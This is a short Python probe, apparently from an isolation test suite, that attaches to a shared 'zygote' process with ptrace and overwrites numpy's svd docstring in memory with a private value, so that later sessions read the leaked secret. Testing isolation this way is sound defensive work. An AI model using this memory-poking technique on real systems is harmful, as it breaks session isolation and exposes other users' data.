# Copyright 2026 The spatialclaw_ros authors
#
# Licensed under the Apache License, Version 2.0 (the "License");
# you may not use this file except in compliance with the License.
# You may obtain a copy of the License at
#
#     http://www.apache.org/licenses/LICENSE-2.0
#
# Unless required by applicable law or agreed to in writing, software
# distributed under the License is distributed on an "AS IS" BASIS,
# WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
# See the License for the specific language governing permissions and
# limitations under the License.

"""Attach to the zygote as a debugger would, and change a text that later queries read."""

# act: leak
# needs: tracing

import ctypes
import sys

libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.argtypes = (ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p)
ATTACH, POKE, DETACH, WALL = 16, 5, 17, 0x40000000
text = np.linalg.svd.__doc__
address = id(text) + sys.getsizeof(text) - len(text) - 1
if libc.ptrace(ATTACH, ZYGOTE_PID, None, None) != 0:
    raise OSError(ctypes.get_errno(), 'ptrace')
libc.waitpid(ZYGOTE_PID, None, WALL)
data = PRIVATE.encode()
for place in range(0, len(data), 8):
    word = int.from_bytes(data[place:place + 8], 'little')
    libc.ptrace(POKE, ZYGOTE_PID, address + place, word)
libc.ptrace(DETACH, ZYGOTE_PID, None, None)
# %% next session
print(np.linalg.svd.__doc__[:40])
# %% next session
print(np.linalg.svd.__doc__[:40])
# %% next session
print(np.linalg.svd.__doc__[:40])
